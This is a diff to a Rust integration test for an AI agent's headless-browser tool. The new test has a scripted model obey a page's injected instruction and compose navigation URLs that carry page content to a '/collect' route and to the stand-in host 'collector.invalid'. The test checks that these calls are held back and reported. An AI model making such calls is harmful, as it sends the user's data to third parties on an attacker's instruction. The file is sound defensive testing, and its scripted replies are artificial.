@@ -1,5 +1,6 @@
 //! The browser toolbox: `baton ask` does a chore on a loopback site in
-//! headless Chromium, and a click needs `--yes`.
+//! headless Chromium, a click needs `--yes`, and an address the model
+//! composed is held back.
 
 use baton_scripted_llm::{Reply, ScriptedServer};
 use serde_json::{Value, json};
@@ -24,6 +25,16 @@ async fn form_site() -> (String, std::sync::Arc<std::sync::Mutex<Vec<String>>>) 
                 kept.lock().unwrap().push(body);
                 async { Html("<html><head><title>Welcome</title></head><body>You are signed up.</body></html>") }
             }),
+        )
+        .route(
+            "/collect",
+            axum::routing::get({
+                let kept = seen.clone();
+                move |q: axum::extract::RawQuery| {
+                    kept.lock().unwrap().push(format!("collect?{}", q.0.unwrap_or_default()));
+                    async { Html("<html><body>thanks</body></html>") }
+                }
+            }),
         );
     let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
     let url = format!("http://{}", listener.local_addr().unwrap());
@@ -31,10 +42,9 @@ async fn form_site() -> (String, std::sync::Arc<std::sync::Mutex<Vec<String>>>) 
     (url, seen)
 }
 
-#[tokio::test(flavor = "multi_thread")]
-async fn ask_does_a_chore_in_the_browser() {
-    let (site, seen) = form_site().await;
-    let server = ScriptedServer::start().await.unwrap();
+/// A private home whose browser is Debian's Chromium, headless, and its
+/// workspace.
+fn headless_env() -> (Env, std::path::PathBuf) {
     let env = Env::new();
     let dir = ws(&env);
     std::fs::create_dir_all(env.path().join("config")).unwrap();
@@ -43,6 +53,14 @@ async fn ask_does_a_chore_in_the_browser() {
         json!({"skipIndexingOnStartup": true, "browser": {"mode": "headless", "path": "/usr/bin/chromium"}}).to_string(),
     )
     .unwrap();
+    (env, dir)
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn ask_does_a_chore_in_the_browser() {
+    let (site, seen) = form_site().await;
+    let server = ScriptedServer::start().await.unwrap();
+    let (env, dir) = headless_env();
     server.reply(Reply::tool_call(
         "navigate",
         json!({"url": format!("{site}/signup")}),
@@ -106,7 +124,8 @@ async fn ask_does_a_chore_in_the_browser() {
     use base64::Engine as _;
     let want = base64::engine::general_purpose::STANDARD.encode(&png);
     assert_eq!(shown, format!("data:image/png;base64,{want}"));
-    // Without --yes nobody confirms the click: it is refused, nothing is sent.
+    // Without --yes nobody confirms the click: it is refused, nothing is
+    // sent. The page the user named opens without asking.
     for r in [
         Reply::tool_call("navigate", json!({"url": format!("{site}/signup")})),
         Reply::tool_call("click", json!({"target": "//button"})),
@@ -115,12 +134,14 @@ async fn ask_does_a_chore_in_the_browser() {
         server.reply(r);
     }
     let mut c = env.scripted(&server);
+    let prompt = format!("Sign me up at {site}/signup");
     c.arg("--workspace")
         .arg(&dir)
-        .args(["ask", "--mode", "api", "--json", "Sign me up"]);
+        .args(["ask", "--mode", "api", "--json", &prompt]);
     let o = run(c, None).await;
     assert_eq!(o.code, 0, "{}", o.stderr);
     let v: Value = serde_json::from_str(o.stdout.trim()).unwrap();
+    assert_eq!(v["toolCalls"][0]["outcome"]["ok"]["loaded"], true, "{v}");
     assert!(
         v["toolCalls"][1]["outcome"]["err"]
             .as_str()
@@ -129,4 +150,50 @@ async fn ask_does_a_chore_in_the_browser() {
         "{v}"
     );
     assert_eq!(seen.lock().unwrap().len(), 1);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_address_the_model_composed_is_held_back() {
+    let (site, seen) = form_site().await;
+    let server = ScriptedServer::start().await.unwrap();
+    let (env, dir) = headless_env();
+    // The page "says" to send the summary on; a model that obeys composes
+    // an address with it, on the same site and on another one.
+    for r in [
+        Reply::tool_call("navigate", json!({"url": format!("{site}/signup")})),
+        Reply::tool_call("get_page_content", json!({})),
+        Reply::tool_call(
+            "navigate",
+            json!({"url": format!("{site}/collect?d=Newsletter+sign-up+form")}),
+        ),
+        Reply::tool_call(
+            "navigate",
+            json!({"url": "http://collector.invalid/?d=Newsletter"}),
+        ),
+        Reply::text("The page is a newsletter sign-up form."),
+    ] {
+        server.reply(r);
+    }
+    let mut c = env.scripted(&server);
+    let prompt = format!("What is on {site}/signup?");
+    c.arg("--workspace")
+        .arg(&dir)
+        .args(["ask", "--mode", "api", &prompt]);
+    let o = run(c, None).await;
+    assert_eq!(o.code, 0, "{}", o.stderr);
+    assert!(o.stdout.contains("newsletter sign-up form"), "{}", o.stdout);
+    // The user is told, whatever the model says; the page they named opened.
+    let held: Vec<&str> = o
+        .stderr
+        .lines()
+        .filter(|l| l.contains("held back: WebTool.navigate"))
+        .collect();
+    assert_eq!(held.len(), 2, "{}", o.stderr);
+    assert!(held.iter().all(|l| !l.contains("/signup")), "{}", o.stderr);
+    let page = server.requests()[2].json().to_string();
+    assert!(
+        page.contains("Newsletter"),
+        "the named page was read: {page}"
+    );
+    assert!(seen.lock().unwrap().is_empty(), "nothing reached the site");
 }
